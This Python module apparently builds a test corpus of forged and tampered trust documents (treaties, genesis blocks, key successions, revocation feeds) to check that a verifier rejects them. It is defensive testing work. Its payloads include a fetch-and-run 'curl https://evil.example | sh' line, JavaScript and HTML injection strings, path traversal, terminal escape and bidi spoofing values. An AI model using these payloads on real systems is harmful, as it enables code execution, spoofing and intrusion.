"""The attacks of the hostile corpus: each edits a copy of the baseline as an attacker would.

One function per attack, registered under the name of its corpus folder. Expected reason codes
live with the tests (`test_hostile_corpus.py`), not here: this module only says what was done.
"""
from __future__ import annotations

import base64
from typing import Any
from collections.abc import Callable

from hostile_world import (
    ALPHA, ATTACKER, BETA, TREATY, A, Files, Key, Member, add_sovereign, alpha_treaty, at, load, put, rows,
    set_treaty, signed,
)
from publisher.keyfile import format_public_key_file

Attack = Callable[[Files], None]
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    def register(function: Attack) -> Attack:
        if name in ATTACKS:
            raise ValueError(f"attack {name} defined twice")
        ATTACKS[name] = function
        return function
    return register


def na_signed_treaty(**overrides: Any) -> dict[str, Any]:
    return signed(alpha_treaty(**overrides), "recognition-treaty", ALPHA.na)


def seed_b64(key: Key) -> str:
    return base64.b64encode(key.seed).decode("ascii")


# -- signatures -----------------------------------------------------------------------------------
@attack("treaty-tampered-after-signing")
def _(files: Files) -> None:
    set_treaty(files, {**na_signed_treaty(), "expires_at": at(3650)})


@attack("treaty-signed-by-root-key")
def _(files: Files) -> None:
    set_treaty(files, signed(alpha_treaty(), "recognition-treaty", ALPHA.root))


@attack("treaty-signed-by-operator-key")
def _(files: Files) -> None:
    files[f"{A}/keys/operator.pub"] = format_public_key_file(ALPHA.operator.public, "operator").encode()
    set_treaty(files, signed(alpha_treaty(), "recognition-treaty", ALPHA.operator))


@attack("treaty-signed-by-foreign-key")
def _(files: Files) -> None:
    set_treaty(files, signed(alpha_treaty(), "recognition-treaty", BETA.na))


@attack("treaty-unsigned")
def _(files: Files) -> None:
    set_treaty(files, {**alpha_treaty(), "signatures": []})


@attack("treaty-signature-base64url")
def _(files: Files) -> None:
    body = na_signed_treaty()
    raw = base64.b64decode(body["signatures"][0]["sig"])
    body["signatures"][0]["sig"] = base64.urlsafe_b64encode(raw).decode("ascii").rstrip("=")
    set_treaty(files, body)


@attack("treaty-signature-too-many")
def _(files: Files) -> None:
    body = na_signed_treaty()
    body["signatures"] = body["signatures"] * 17
    set_treaty(files, body)


@attack("treaty-signed-unknown-field")
def _(files: Files) -> None:
    set_treaty(files, signed({**alpha_treaty(), "x_grants_admin": True}, "recognition-treaty", ALPHA.na))


@attack("treaty-unknown-field-after-signing")
def _(files: Files) -> None:
    set_treaty(files, {**na_signed_treaty(), "x_grants_admin": True})


@attack("treaty-subject-key-31-bytes")
def _(files: Files) -> None:
    short = base64.b64encode(base64.b64decode(BETA.na.public)[:31]).decode("ascii")
    set_treaty(files, na_signed_treaty(subject_public_keys=[short]))


@attack("treaty-offset-timestamp-resigned")
def _(files: Files) -> None:
    issued = at(-10).replace("Z", "+00:00")
    set_treaty(files, na_signed_treaty(issued_at=issued))


@attack("treaty-wrong-issuer")
def _(files: Files) -> None:
    """Alpha forges the reverse recognition: 'beta recognizes alpha', signed by alpha's NA key."""
    set_treaty(files, na_signed_treaty(issuer_sovereign_id="beta", subject_sovereign_id="alpha",
                                       subject_public_keys=[ALPHA.na.public]))


@attack("treaty-replayed-from-another-sovereign")
def _(files: Files) -> None:
    theirs = signed(BETA.treaty(ALPHA), "recognition-treaty", BETA.na)
    put(files, f"{A}/treaties/{theirs['treaty_id']}.json", theirs)


@attack("treaty-row-differs-from-file")
def _(files: Files) -> None:
    rows = load(files, f"{A}/recognition-treaties.json")
    rows["recognition_treaties"][0]["treaty"] = na_signed_treaty(expires_at=at(3650))
    put(files, f"{A}/recognition-treaties.json", rows)


@attack("treaty-duplicate-signer-below-threshold")
def _(files: Files) -> None:
    body = na_signed_treaty()
    body["signatures"] = body["signatures"] * 2
    set_treaty(files, body)
    put(files, f"{A}/roll-call.json", signed(ALPHA.roll_call(signature_threshold=2), "roll-call", ALPHA.na))


# -- strict JSON (FORMATS §1.6): each hostile text replaces alpha's treaty file ------------------
def treaty_text(files: Files) -> bytes:
    return files[TREATY]


JSON_TEXT_ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "json-duplicate-key": lambda t: t.replace(b'"status": "active",', b'"status": "revoked",\n  "status": "active",'),
    "json-truncated": lambda t: t[: len(t) // 2],
    "json-nan": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"weight": NaN}'),
    "json-infinity": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"weight": -Infinity}'),
    "json-number-1e400": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"weight": 1e400}'),
    "json-negative-zero": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"weight": -0}'),
    "json-integer-2-64": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"weight": 18446744073709551616}'),
    "json-lone-surrogate": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"note": "\\ud800"}'),
    "json-byte-order-mark": lambda t: b"\xef\xbb\xbf" + t,
    "json-not-utf8": lambda t: t.replace(b'"metadata": {}', b'"metadata": {"note": "caf\xe9"}'),
    "json-trailing-data": lambda t: t + b'{"status": "revoked"}\n',
    "json-top-level-array": lambda t: b"[" + t + b"]",
    "json-single-quotes": lambda t: t.replace(b'"status"', b"'status'"),
    "json-comment": lambda t: b"// signed by alpha\n" + t,
    "json-empty-file": lambda t: b"",
}


def _json_text_attack(name: str, edit: Callable[[bytes], bytes]) -> None:
    @attack(name)
    def _(files: Files) -> None:
        files[TREATY] = edit(treaty_text(files))


for _name, _edit in JSON_TEXT_ATTACKS.items():
    _json_text_attack(_name, _edit)


# -- genesis (FORMATS §2): a genesis block is never its own proof ---------------------------------
@attack("genesis-self-rooted-forgery")
def _(files: Files) -> None:
    """The attacker replaces the whole root of trust: genesis, keys/root.pub and sovereign.json
    all name the attacker's root key, and the attacker signs the genesis; trust.lock still pins
    alpha's real root."""
    put(files, f"{A}/genesis.signed.json", ALPHA.genesis(root=ATTACKER))
    files[f"{A}/keys/root.pub"] = format_public_key_file(ATTACKER.public, "root").encode()
    put(files, f"{A}/sovereign.json", ALPHA.identity(root_public_key=ATTACKER.public))


@attack("genesis-signed-by-na-key")
def _(files: Files) -> None:
    put(files, f"{A}/genesis.signed.json", ALPHA.genesis(signer=ALPHA.na))


@attack("genesis-of-another-sovereign")
def _(files: Files) -> None:
    put(files, f"{A}/genesis.signed.json", BETA.genesis())


@attack("genesis-tampered-na-key")
def _(files: Files) -> None:
    body = ALPHA.genesis()
    body["network_authority"]["public_key"] = ATTACKER.public
    put(files, f"{A}/genesis.signed.json", body)


@attack("genesis-unsigned")
def _(files: Files) -> None:
    put(files, f"{A}/genesis.signed.json", {**ALPHA.genesis(), "signatures": []})


# -- revocation feed (RFC-004) ------------------------------------------------------------------
@attack("feed-unsorted-ids-resigned")
def _(files: Files) -> None:
    feed = ALPHA.feed(revoked_attestation_ids=["attestation-2", "attestation-1"])
    put(files, f"{A}/revocation-feed.json", signed(feed, "revocation-feed", ALPHA.na))


@attack("feed-reason-for-unlisted-id-resigned")
def _(files: Files) -> None:
    feed = ALPHA.feed(revocation_reasons={"attestation-1": "key_compromise", "attestation-2": "member_departed",
                                          "attestation-9": "key_compromise"})
    put(files, f"{A}/revocation-feed.json", signed(feed, "revocation-feed", ALPHA.na))


@attack("feed-wrong-issuer-resigned")
def _(files: Files) -> None:
    put(files, f"{A}/revocation-feed.json",
        signed(ALPHA.feed(issuer_sovereign_id="beta"), "revocation-feed", ALPHA.na))


@attack("feed-id-removed-after-signing")
def _(files: Files) -> None:
    feed = signed(ALPHA.feed(), "revocation-feed", ALPHA.na)
    feed["revoked_attestation_ids"] = ["attestation-2"]
    feed["revocation_reasons"] = {"attestation-2": "member_departed"}
    put(files, f"{A}/revocation-feed.json", feed)


# -- NA key history: successions (FORMATS §3) ----------------------------------------------------
def _history(files: Files, *records: dict[str, Any]) -> None:
    put(files, f"{A}/key-history.json", ALPHA.key_history(successions=list(records)))


def _fully_signed(record: dict[str, Any]) -> dict[str, Any]:
    return signed(record, "key-succession-record", ALPHA.root, ALPHA.na2, ALPHA.na)


@attack("succession-chain-break-sequence")
def _(files: Files) -> None:
    _history(files, _fully_signed(ALPHA.succession(key_sequence=3)))


@attack("succession-chain-break-previous-key")
def _(files: Files) -> None:
    _history(files, _fully_signed(ALPHA.succession(previous_public_key=BETA.na.public)))


@attack("succession-reuses-root-key")
def _(files: Files) -> None:
    record = ALPHA.succession(new_public_key=ALPHA.root.public)
    _history(files, signed(record, "key-succession-record", ALPHA.root, ALPHA.na))


@attack("succession-reuses-previous-key")
def _(files: Files) -> None:
    record = ALPHA.succession(new_public_key=ALPHA.na.public)
    _history(files, signed(record, "key-succession-record", ALPHA.root, ALPHA.na))


@attack("succession-without-root-signature")
def _(files: Files) -> None:
    _history(files, signed(ALPHA.succession(), "key-succession-record", ALPHA.na2, ALPHA.na))


@attack("succession-root-signature-by-attacker")
def _(files: Files) -> None:
    _history(files, signed(ALPHA.succession(), "key-succession-record", ATTACKER, ALPHA.na2, ALPHA.na))


@attack("succession-without-new-key-signature")
def _(files: Files) -> None:
    _history(files, signed(ALPHA.succession(), "key-succession-record", ALPHA.root, ALPHA.na))


@attack("succession-backdated")
def _(files: Files) -> None:
    _history(files, _fully_signed(ALPHA.succession(issued_at=at(-20))))


@attack("succession-tampered-after-signing")
def _(files: Files) -> None:
    _history(files, {**_fully_signed(ALPHA.succession()), "new_valid_to": at(9000)})


@attack("succession-refused-then-later-record")
def _(files: Files) -> None:
    later = ALPHA.succession(key_sequence=3, previous_public_key=ALPHA.na2.public,
                             new_public_key=ATTACKER.public, effective_at=at(-5), issued_at=at(-6))
    _history(files, _fully_signed(ALPHA.succession(key_sequence=5)),
             signed(later, "key-succession-record", ALPHA.root, ATTACKER, ALPHA.na2))


@attack("key-history-embeds-foreign-genesis")
def _(files: Files) -> None:
    put(files, f"{A}/key-history.json", ALPHA.key_history(genesis=BETA.genesis()))


# -- private material (RFC-003): fake keys from fixed seeds ----------------------------------------
def pem_private_key(key: Key) -> bytes:
    """PKCS#8 PEM of an Ed25519 key (RFC 8410): fixed DER prefix + the 32-byte seed."""
    der = bytes.fromhex("302e020100300506032b657004220420") + key.seed
    body = base64.b64encode(der).decode("ascii")
    return f"-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----\n".encode()


@attack("private-key-genesis-mesh-file")
def _(files: Files) -> None:
    files[f"{A}/keys/na.key"] = f"# Ed25519 Private Key\n# Key ID: {ALPHA.na.label}\n{seed_b64(ALPHA.na)}\n".encode()


@attack("private-key-bare-seed-file")
def _(files: Files) -> None:
    files[f"{A}/keys/root.key"] = f"{seed_b64(ALPHA.root)}\n".encode()


@attack("private-key-pem-file")
def _(files: Files) -> None:
    files[f"{A}/backup.pem"] = pem_private_key(ALPHA.root)


@attack("private-key-pem-in-readme")
def _(files: Files) -> None:
    files[f"{A}/README.md"] = b"# Alpha\n\nRecovery material, keep safe:\n\n" + pem_private_key(ALPHA.na)


@attack("private-key-in-identity-field")
def _(files: Files) -> None:
    identity = ALPHA.identity()
    identity["metadata"]["na_private_key"] = seed_b64(ALPHA.na)
    put(files, f"{A}/sovereign.json", identity)


@attack("private-key-as-public-key-file")
def _(files: Files) -> None:
    """The NA seed pasted into keys/na.pub: a 32-byte value like any public key."""
    files[f"{A}/keys/na.pub"] = f"# Ed25519 Public Key\n# Key ID: {ALPHA.na.label}\n{seed_b64(ALPHA.na)}\n".encode()


@attack("private-key-as-root-public-key-file")
def _(files: Files) -> None:
    """The root seed pasted into keys/root.pub, the genesis block signed and intact: the value
    is no key a signed document names, so the scan derives a key from it and finds the root."""
    header = f"# Ed25519 Public Key\n# Key ID: {ALPHA.root.label}\n"
    files[f"{A}/keys/root.pub"] = f"{header}{seed_b64(ALPHA.root)}\n".encode()


@attack("secret-field-in-identity")
def _(files: Files) -> None:
    identity = ALPHA.identity()
    identity["metadata"]["api_token"] = "tok_live_4f1a0c9e"
    put(files, f"{A}/sovereign.json", identity)


@attack("admin-material-in-identity")
def _(files: Files) -> None:
    identity = ALPHA.identity()
    identity["metadata"]["admin_nonce"] = "f3a9c1"
    put(files, f"{A}/sovereign.json", identity)


@attack("local-path-in-identity")
def _(files: Files) -> None:
    identity = ALPHA.identity()
    identity["metadata"]["database"] = "sqlite:///var/lib/genesis-mesh/na.db"
    put(files, f"{A}/sovereign.json", identity)


# -- keys -----------------------------------------------------------------------------------------
@attack("key-file-31-bytes")
def _(files: Files) -> None:
    short = base64.b64encode(base64.b64decode(ALPHA.na.public)[:31]).decode("ascii")
    files[f"{A}/keys/na.pub"] = f"# Ed25519 Public Key\n{short}\n".encode()


@attack("identity-na-key-31-bytes")
def _(files: Files) -> None:
    short = base64.b64encode(base64.b64decode(ALPHA.na.public)[:31]).decode("ascii")
    put(files, f"{A}/sovereign.json", ALPHA.identity(network_authority_public_key=short))


@attack("key-file-root-swapped")
def _(files: Files) -> None:
    files[f"{A}/keys/root.pub"] = format_public_key_file(ATTACKER.public, "root").encode()


@attack("key-file-na-not-current")
def _(files: Files) -> None:
    files[f"{A}/keys/na.pub"] = format_public_key_file(ATTACKER.public, "network-authority").encode()


# -- links and roll call (RFC-008) ----------------------------------------------------------------
@attack("identity-javascript-endpoint")
def _(files: Files) -> None:
    put(files, f"{A}/sovereign.json", ALPHA.identity(endpoints=["javascript:alert(document.domain)"]))


@attack("identity-data-url-endpoint")
def _(files: Files) -> None:
    put(files, f"{A}/sovereign.json",
        ALPHA.identity(endpoints=["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]))


def _roll_call(files: Files, parties: list[dict[str, Any]], **overrides: Any) -> None:
    put(files, f"{A}/roll-call.json", signed(ALPHA.roll_call(parties, **overrides), "roll-call", ALPHA.na))


@attack("rollcall-javascript-contact")
def _(files: Files) -> None:
    parties = ALPHA.parties()
    parties[1]["contact"] = "javascript:alert(1)"
    _roll_call(files, parties)


@attack("rollcall-javascript-url")
def _(files: Files) -> None:
    parties = ALPHA.parties()
    parties[1]["url"] = "JaVaScRiPt:alert(1)"
    _roll_call(files, parties)


@attack("rollcall-partner-holds-root")
def _(files: Files) -> None:
    parties = ALPHA.parties()
    parties[0]["holds_keys"] = ["network-authority", "operator"]
    parties.append({"name": "Helpful Partner Ltd", "roles": ["managing-partner", "na-host"],
                    "holds_keys": ["root"], "contact": "https://partner.example"})
    _roll_call(files, parties, custody_model="split-operation")


@attack("rollcall-partner-removed-after-signing")
def _(files: Files) -> None:
    body = signed(ALPHA.roll_call(), "roll-call", ALPHA.na)
    body["parties"] = body["parties"][:1]
    put(files, f"{A}/roll-call.json", body)


@attack("rollcall-two-operators")
def _(files: Files) -> None:
    parties = ALPHA.parties()
    parties[1]["roles"] = ["operator"]
    _roll_call(files, parties)


# -- coalition and trust.lock ----------------------------------------------------------------------
@attack("trust-lock-duplicate-key")
def _(files: Files) -> None:
    text = files["trust.lock"].decode()
    pin = f'"alpha": {{\n      "root_public_key": "{ATTACKER.public}",\n      "first_seen_commit": null,\n' \
          '      "first_seen_at": null\n    },\n    '
    files["trust.lock"] = text.replace('"alpha": {', pin + '"alpha": {', 1).encode()


@attack("coalition-javascript-url")
def _(files: Files) -> None:
    body = load(files, "coalition.json")
    body["operator"]["url"] = "javascript:alert(1)"
    put(files, "coalition.json", body)


@attack("coalition-genesis-pin-mismatch")
def _(files: Files) -> None:
    body = load(files, "coalition.json")
    body["members"][0]["genesis_sha256"] = "sha256:" + "f" * 64
    put(files, "coalition.json", body)


# -- layout: folder names double as URL path segments ----------------------------------------------
FOLDER_ATTACKS: dict[str, str] = {
    "folder-bidi-override": "alpha\u202e",
    "folder-bidi-isolate": "\u2067beta\u2069",
    "folder-zero-width-space": "al\u200bpha",
    "folder-cyrillic-confusable": "\u0430lpha",          # Cyrillic a + "lpha"
    "folder-greek-confusable": "\u03b2eta",              # Greek beta + "eta"
    "folder-fullwidth": "\uff41lpha",
    "folder-leading-dot": ".alpha",
    "folder-leading-dash": "-alpha",
    "folder-space": "alpha beta",
    "folder-percent-encoded-slash": "alpha%2Fbeta",
    "folder-html-markup": "<img src=x onerror=alert(1)>",
    "folder-too-long": "a" * 129,
    "folder-dot-dot-inside": "alpha..beta",
}


def _folder_attack(name: str, folder: str) -> None:
    @attack(name)
    def _(files: Files) -> None:
        add_sovereign(files, Member(folder, host="impostor"), folder)


for _name, _folder in FOLDER_ATTACKS.items():
    _folder_attack(_name, _folder)


@attack("unexpected-executable-file")
def _(files: Files) -> None:
    files[f"{A}/install.sh"] = b"#!/bin/sh\ncurl https://evil.example | sh\n"


@attack("file-directly-under-sovereigns")
def _(files: Files) -> None:
    files["sovereigns/index.json"] = b"{}\n"


# -- key succession used by later documents --------------------------------------------------------
def rotate_alpha(files: Files, *, complete: bool = False) -> None:
    """A legitimate succession NA #1 -> #2 effective 30 days ago, with every current document
    (na.pub, sovereign.json, roll call, feed) moved to key #2 as the reference would. With
    `complete`, alpha's treaty is re-issued under key #2 and beta's treaty pins key #2 too,
    so the repository verifies with no finding."""
    _history(files, _fully_signed(ALPHA.succession()))
    files[f"{A}/keys/na.pub"] = format_public_key_file(ALPHA.na2.public, "network-authority", ALPHA.na2.label).encode()
    put(files, f"{A}/sovereign.json", ALPHA.identity(network_authority_public_key=ALPHA.na2.public))
    put(files, f"{A}/roll-call.json", signed(ALPHA.roll_call(issued_by=ALPHA.na2.label), "roll-call", ALPHA.na2))
    put(files, f"{A}/revocation-feed.json",
        signed(ALPHA.feed(issued_by=ALPHA.na2.label), "revocation-feed", ALPHA.na2))
    if complete:
        set_treaty(files, signed(ALPHA.treaty(BETA, issued_by=ALPHA.na2.label), "recognition-treaty", ALPHA.na2))
        theirs = signed(BETA.treaty(ALPHA, subject_public_keys=[ALPHA.na2.public]), "recognition-treaty", BETA.na)
        put(files, f"sovereigns/beta/treaties/{theirs['treaty_id']}.json", theirs)
        put(files, "sovereigns/beta/recognition-treaties.json", rows([theirs]))


@attack("treaty-signed-by-retired-na-key")
def _(files: Files) -> None:
    """After the succession, the retired key #1 still signs a treaty dated after it retired."""
    rotate_alpha(files)
    set_treaty(files, na_signed_treaty())


@attack("succession-forged-then-used")
def _(files: Files) -> None:
    """The attacker appends a succession to its own key without the root's signature, then
    signs a treaty with that key."""
    record = ALPHA.succession(new_public_key=ATTACKER.public, new_key_id="attacker")
    _history(files, signed(record, "key-succession-record", ATTACKER, ALPHA.na))
    set_treaty(files, signed(alpha_treaty(issued_by="attacker"), "recognition-treaty", ATTACKER))


@attack("genesis-duplicate-key")
def _(files: Files) -> None:
    text = files[f"{A}/genesis.signed.json"]
    files[f"{A}/genesis.signed.json"] = text.replace(
        b'"network_version": "v1.0",', b'"network_version": "v1.0",\n  "root_public_key": "'
        + ATTACKER.public.encode() + b'",', 1)


@attack("coalition-duplicate-member")
def _(files: Files) -> None:
    body = load(files, "coalition.json")
    body["members"].append(dict(body["members"][0]))
    put(files, "coalition.json", body)


@attack("treaty-id-path-traversal")
def _(files: Files) -> None:
    set_treaty(files, na_signed_treaty(treaty_id="../../../index"))


# -- identifiers readers see: look-alikes and terminal control sequences ---------------------------
@attack("treaty-subject-confusable-id")
def _(files: Files) -> None:
    """A treaty recognising 'bеta' (Cyrillic e), pinning beta's real key: it reads as beta."""
    set_treaty(files, na_signed_treaty(subject_sovereign_id="b\u0435ta"))


@attack("treaty-id-terminal-escape")
def _(files: Files) -> None:
    set_treaty(files, na_signed_treaty(treaty_id="\x1b[2J\x1b[32mOK\nERROR forged line\u202e"))


FOLDER_ATTACKS["folder-terminal-escape"] = "evil\x1b[2J"
_folder_attack("folder-terminal-escape", FOLDER_ATTACKS["folder-terminal-escape"])


@attack("secret-passphrase-in-identity")
def _(files: Files) -> None:
    identity = ALPHA.identity()
    identity["metadata"]["backup_passphrase"] = "correct horse battery staple"
    put(files, f"{A}/sovereign.json", identity)


@attack("secret-apikey-in-identity")
def _(files: Files) -> None:
    identity = ALPHA.identity()
    identity["metadata"]["monitoringApiKey"] = "mk_9f8e7d6c"
    put(files, f"{A}/sovereign.json", identity)


@attack("secret-field-name-escaped")
def _(files: Files) -> None:
    """'password' spelled with a JSON escape, so the bytes never contain the word."""
    text = files[f"{A}/sovereign.json"].decode()
    files[f"{A}/sovereign.json"] = text.replace(
        '"metadata": {', '"metadata": {\n    "admin_pass\\u0077ord": "hunter2",', 1).encode()


@attack("identity-bidi-endpoint")
def _(files: Files) -> None:
    """An https link whose right-to-left override makes it display as another address."""
    put(files, f"{A}/sovereign.json", ALPHA.identity(endpoints=["https://na.alpha.example/\u202eexe.txt"]))


@attack("recognition-policy-issuer-id-not-a-string")
def _(files: Files) -> None:
    """A recognized issuer whose sovereign_id is a list: the coalition stage looked it up among
    the sovereigns and raised TypeError (unhashable) out of `handshake verify` and `review`."""
    put(files, f"{A}/recognition-policy.json", {
        "local_sovereign_id": "alpha", "revoked_attestation_ids": [],
        "recognized_issuers": [{"sovereign_id": ["beta"], "public_keys": [BETA.na.public],
                                "allowed_roles": ["role:client"], "accepted_statuses": ["active"]}]})
